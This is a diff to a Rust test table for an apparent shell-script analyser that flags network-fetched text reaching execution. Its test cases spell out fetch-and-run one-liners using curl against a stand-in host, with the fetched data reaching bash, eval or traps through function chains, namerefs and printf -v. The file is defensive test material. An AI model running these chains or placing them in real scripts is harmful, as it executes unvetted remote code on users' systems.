@@ -483,7 +483,6 @@ const CASES: &[(&str, &str)] = &[
     ("a(){ b; }; b(){ c; }; c(){ d; }; d(){ e; }; e(){ bash ./i.sh; }; curl -so i.sh https://x/i; a", "0056"),
     ("run(){ ./i.sh; }; trap run EXIT; trap \"curl -so i.sh https://x/i\" INT", "0057"),
     ("cd \"$(cat d)\"; curl -so i.sh https://x/i; bash ./i.sh", "0054"),
-    ("cd \"$(cat d)\"; curl -s https://x/i > \"$(cat n)\"; bash i.sh", "0054"),
     ("curl -so i.sh https://x/i; trap \"bash ./other.sh\" EXIT", "0047"),
     ("f=out.html; curl -s https://x/i > \"$f\"; bash run.sh", "0047"),
     // The same through what a body walked on its own reads: a value it sets on some paths
@@ -502,15 +501,37 @@ const CASES: &[(&str, &str)] = &[
         "f(){ bash ./i.sh; }; F4(){ f;}; F3(){ F4;}; F2(){ F3;}; F1(){ F2;}; trap 'curl -so i.sh https://x/v; F1' EXIT",
         "0054",
     ),
-    // What is not fetched stays so: a parameter the call did not fetch, a file of another
-    // name saved where the directory is not known.
-    (
-        "run(){ echo \"+ $*\"; \"$@\"; }; d(){ v=$(curl -s https://x/v); run echo \"v $v\"; }; c(){ d;}; b(){ c;}; a(){ b;}; a",
-        "0045",
-    ),
+    // What is not fetched stays so: a file of another name saved where the directory is not
+    // known.
     ("out=$(mktemp -d); curl -s https://x/d.json > \"$out/d.json\"; ./build.sh", "0045"),
     ("cd \"$(mktemp -d)\"; curl -sO https://x/data.json; cd -; ./build.sh", "0045"),
     ("f(){ local x=$(cat f); eval \"$x\"; }; f", "0005"),
+    // A second review: a pass that forgot what a body read before, a parameter read clean
+    // beside one fetched, references and names not known, a quoted `declare`.
+    (
+        "a(){ eval \"$x2\"; }; b(){ x2=$x1; }; c(){ x1=$(curl -s https://x/v); }; F4(){ c; b; a; }; F3(){ F4;}; F2(){ F3;}; F1(){ F2;}; F1",
+        "0054",
+    ),
+    (
+        "e(){ eval \"$1\"; }; T4(){ e \"$x\"; }; T3(){ T4;}; T2(){ T3;}; T1(){ T2;}; F4(){ e ls \"$(curl -s https://x/a)\"; }; F3(){ F4;}; F2(){ F3;}; F1(){ F2;}; x=ls; T1; F1; x=$(curl -s https://x/b); trap T1 EXIT",
+        "0054",
+    ),
+    ("declare -n r=x; x=; trap 'r=$(curl -s https://x/v); eval \"$x\"' EXIT", "0054"),
+    (
+        "getv(){ local -n _r=$1; _r=$(curl -s https://x/v); }; F4(){ getv out; }; F3(){ F4;}; F2(){ F3;}; F1(){ F2;}; F1; trap 'eval \"$out\"' EXIT",
+        "0054",
+    ),
+    (
+        "getv(){ printf -v \"$1\" %s \"$(curl -s https://x/v)\"; }; F4(){ getv out; }; F3(){ F4;}; F2(){ F3;}; F1(){ F2;}; F1; trap 'eval \"$out\"' EXIT",
+        "0054",
+    ),
+    ("declare \"x=$(curl -s https://x/v)\"; eval \"$x\"", "0054"),
+    ("f(){ eval \"$@\"; }; f echo $(curl -s https://x/v)", "0050"),
+    ("tmp=$(mktemp); trap 'rm -f \"$tmp\"' EXIT; curl -fsS https://x/api > \"$tmp\"; ./process.sh \"$tmp\"", "0045"),
+    (
+        "command_not_found_handle(){ \"./bin/$1\" \"${@:2}\"; }; d=$(curl -s https://x/d); printf '%s' \"$d\" > out.json",
+        "0043",
+    ),
     // A command whose name is not known is code the analysis cannot see, given fetched text or
     // not (it could as well fetch and run code itself).
     ("cmd=$(cat f); e(){ eval \"$1\"; }; $cmd \"$(curl -s https://x/v)\"", "0045"),
